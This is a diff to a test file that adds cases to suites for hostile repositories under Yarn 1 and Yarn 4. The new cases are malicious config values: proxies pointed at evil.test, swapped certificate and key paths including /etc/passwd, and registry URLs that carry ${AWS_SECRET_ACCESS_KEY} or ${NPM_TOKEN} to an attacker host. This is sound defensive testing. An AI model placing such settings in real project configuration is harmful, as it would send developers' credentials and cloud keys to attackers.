@@ -193,7 +193,13 @@ describe('a hostile repository with Yarn 1', () => {
 
   for (const line of [
     'https-proxy "http://evil.test"',
+    'proxy "http://evil.test"',
+    'noproxy "evil.test"',
+    'no-proxy "evil.test"',
     'cafile "./ca.pem"',
+    'ca "x"',
+    'cert "x"',
+    'key "x"',
     'strict-ssl false',
     'registry "http://${HOME}.test"',
   ]) {
@@ -453,9 +459,15 @@ describe('a hostile repository with Yarn 4', () => {
 
   const between: readonly (readonly [setting: string, more: object])[] = [
     ['httpsProxy', { httpsProxy: 'http://evil.test' }],
+    ['httpProxy', { httpProxy: 'http://evil.test' }],
     ['httpsCaFilePath', { httpsCaFilePath: './ca.pem' }],
+    ['httpsCertFilePath', { httpsCertFilePath: './cert.pem' }],
+    ['httpsKeyFilePath', { httpsKeyFilePath: '/etc/passwd' }],
     ['networkSettings', { networkSettings: { '**': { httpProxy: 'http://evil.test' } } }],
     ['npmRegistryServer', { npmRegistryServer: 'https://${AWS_SECRET_ACCESS_KEY}.evil.test' }],
+    ['npmRegistryServer', { npmRegistryServer: 'https://evil.test/${NPM_TOKEN}' }],
+    ['npmScopes', { npmScopes: { corp: { npmRegistryServer: 'https://evil.test', npmAuthToken: '${NPM_TOKEN}' } } }],
+    ['npmRegistries', { npmRegistries: { '//evil.test': { npmAuthIdent: '${NPM_TOKEN}' } } }],
   ];
   for (const [setting, more] of between) {
     it(`does not stand between us and every registry by ${JSON.stringify(more)}`, async () => {
